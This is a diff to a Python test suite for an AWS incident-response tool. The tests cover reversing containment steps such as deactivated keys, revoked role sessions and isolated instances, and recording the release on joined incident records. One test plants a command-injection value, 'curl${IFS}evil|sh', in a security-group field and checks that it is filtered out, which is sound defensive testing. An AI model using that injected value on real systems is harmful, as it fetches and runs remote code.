@@ -22,7 +22,10 @@ from contain_key.actions import FALLBACK_POLICY_NAME, deactivate_key, quarantine
 from drill.moto_quirks import aws_semantics
 from isolate_instance.actions import ORIGINAL_TAG, isolate_instance
 from preserve_evidence.actions import create_evidence_image, protect_from_autoscaling, protect_instance
-from record.store import finish, load, register
+from record.finish import finish
+from record.item import load
+from record.registration import register
+from record.responses import release_steps
 from responder.release import ReleaseError, Reversal, load_incident, plan, record_timeline, release
 from revoke_sessions.actions import revoke_role_sessions
 
@@ -160,7 +163,15 @@ def respond(acct: Account, staged: Staged) -> list[dict[str, Any]]:
     }
     register(acct.dynamodb, TABLE, incident, execution_arn="arn:exec:1", now=NOW)
     finish(
-        acct.dynamodb, TABLE, INCIDENT_ID, outcome="contained", reason="test", steps=steps, notifications=[], now=NOW
+        acct.dynamodb,
+        TABLE,
+        INCIDENT_ID,
+        response=0,
+        outcome="contained",
+        reason="test",
+        steps=steps,
+        notifications=[],
+        now=NOW,
     )
     return steps
 
@@ -214,7 +225,7 @@ def test_release_puts_every_staged_resource_back(account: Account) -> None:
     assert during["record_tags"] == [ORIGINAL_TAG]
 
     record = load_incident(account.dynamodb, TABLE, INCIDENT_ID)
-    reversals, notes = plan(record["steps"], iam=account.iam, ec2=account.ec2, autoscaling=account.autoscaling)
+    reversals, notes = plan(release_steps(record), iam=account.iam, ec2=account.ec2, autoscaling=account.autoscaling)
     outcomes = release(
         reversals,
         confirm=lambda _: True,
@@ -342,6 +353,10 @@ def test_the_command_asks_before_each_reversal(
     assert observe(account, staged)["keys"] == {"ci-deployer": "Inactive", "build-bot": "Inactive"}
     out = capsys.readouterr().out
     assert out.count("[declined]") == 8 and out.count("[released]") == 1
+    # A release that left eight changes in place is recorded as partial: the record is not `released`.
+    assert f"release recorded on incident {INCIDENT_ID}: partial" in out
+    record = load(account.dynamodb, TABLE, INCIDENT_ID)
+    assert record["status"] == "contained" and record["responses"][-1]["kind"] == "release"
     assert cli.main(["release", "no-such-incident", "--region", REGION, "--yes"]) == 2
 
 
@@ -380,3 +395,44 @@ def test_release_applies_only_what_its_prompt_shows_and_only_to_the_instances_ow
     step["data"]["original_groups"] = {own: ["sg-1;curl${IFS}evil|sh"]}
     (reversal,), _ = plan([step], iam=None, ec2=ec2)
     assert "curl" not in reversal.what and "left as they are" in reversal.what
+
+
+def test_release_from_a_joined_findings_id_reverses_every_response_and_marks_the_record(account: Account) -> None:
+    """The id a joined report prints leads to the record; every response's changes are reversed, the
+    first response's included; the release is a response of its own and the record is `released`."""
+    from record.join import join_earlier
+    from responder.release import mark_released, resolve
+
+    iam = account.iam
+    iam.create_role(RoleName="web-app-role", AssumeRolePolicyDocument="{}")
+    iam.create_user(UserName="svc-backup")
+    key = iam.create_access_key(UserName="svc-backup")["AccessKey"]["AccessKeyId"]
+    exfil = {"incident_id": f"{ACCOUNT}:guardduty:f1", "kind": "instance-credential-exfiltration", "account": ACCOUNT,
+             "region": REGION, "finding_id": "f1", "role_name": "web-app-role", "event_id": "e1"}  # fmt: skip
+    sequence = {"incident_id": f"{ACCOUNT}:guardduty:s1", "kind": "exposed-access-key", "account": ACCOUNT,
+                "region": REGION, "finding_id": "s1", "access_key_ids": [key], "related_finding_ids": ["f1"],
+                "event_id": "e2"}  # fmt: skip
+    register(account.dynamodb, TABLE, exfil, execution_arn="arn:exec:1", now=NOW)
+    revoked = revoke_role_sessions(iam, "web-app-role", detected_at="2026-11-20T03:02:11Z")
+    finish(account.dynamodb, TABLE, exfil["incident_id"], response=0, outcome="contained", reason="r",
+           steps=[revoked], notifications=[])  # fmt: skip
+    joined = join_earlier(account.dynamodb, TABLE, sequence, execution_arn="arn:exec:2", now=NOW)
+    assert joined is not None and joined.registration.response == 1
+    deactivated = deactivate_key(iam, "svc-backup", key)
+    finish(account.dynamodb, TABLE, exfil["incident_id"], response=1, outcome="contained", reason="r",
+           steps=[deactivated], notifications=[])  # fmt: skip
+
+    record_id, record = resolve(account.dynamodb, TABLE, sequence["incident_id"])
+    assert record_id == exfil["incident_id"]
+    assert resolve(account.dynamodb, TABLE, f"incident#{sequence['incident_id']}")[0] == record_id  # the table's key
+    reversals, notes = plan(release_steps(record), iam=iam)
+    assert sorted(r.step for r in reversals) == ["deactivate-access-key", "revoke-role-sessions"]
+    outcomes = release(reversals, confirm=lambda _: True, record=lambda what: None)
+    assert mark_released(account.dynamodb, TABLE, record_id, record, outcomes, notes) == "released"
+    assert iam.list_access_keys(UserName="svc-backup")["AccessKeyMetadata"][0]["Status"] == "Active"
+    assert iam.list_role_policies(RoleName="web-app-role")["PolicyNames"] == []
+    record = load(account.dynamodb, TABLE, record_id)
+    assert record["status"] == "released"
+    assert [r["kind"] for r in record["responses"]] == ["first", "contain", "release"]
+    assert {r["status"] for r in record["responses"][-1]["reversals"]} == {"released"}
+    assert release_steps(record) == []  # released: nothing left to reverse
